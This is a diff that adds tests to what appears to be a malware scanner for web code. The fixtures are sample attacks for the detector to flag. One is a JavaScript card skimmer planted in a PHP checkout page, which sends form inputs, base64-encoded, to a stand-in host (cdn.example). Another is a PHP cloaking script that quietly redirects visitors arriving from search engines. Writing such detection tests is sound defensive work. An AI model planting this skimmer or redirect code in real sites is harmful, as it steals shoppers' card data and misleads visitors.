@@ -223,3 +223,24 @@ def test_reflection_call_by_built_name():
 
 def rules_of(src):
     return {f.rule for f in analysis.Analysis(src).run().findings}
+
+
+def test_javascript_skimmer_in_a_checkout_page():
+    src = (b"<?php if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) { ?>\n<script>\n"
+           b"function grab(){ var o = {}; document.querySelectorAll('input').forEach(function(e){ o[e.name]=e.value; });\n"
+           b"  if (JSON.stringify(o).match(/card|cvv/i)) { var i = new Image();\n"
+           b"  i.src = 'https://cdn.example/g.php?d=' + btoa(JSON.stringify(o)); } }\n</script>\n<?php } ?>")
+    assert 'js.skimmer' in found(src)
+
+
+def test_checkout_script_posting_to_its_own_gateway_is_not_a_skimmer():
+    src = (b"<script>document.querySelectorAll('input.card-number').forEach(function(e){ mask(e); });\n"
+           b"fetch('/checkout/pay', {method: 'POST', body: JSON.stringify({cvv: 1})});</script>")
+    assert found(src) == set()
+
+
+def test_redirect_script_for_visitors_from_search_engines():
+    src = (b"<?php $ref = $_SERVER['HTTP_REFERER'] ?? ''; if (stripos($ref, 'google.') === false &&\n"
+           b"  stripos($ref, 'bing.') === false) { return; }\n"
+           b"echo \"<script>window.location = atob('aHR0cDovL3guZXhhbXBsZS8=');</script>\";")
+    assert 'php.seo.cloaking' in found(src)
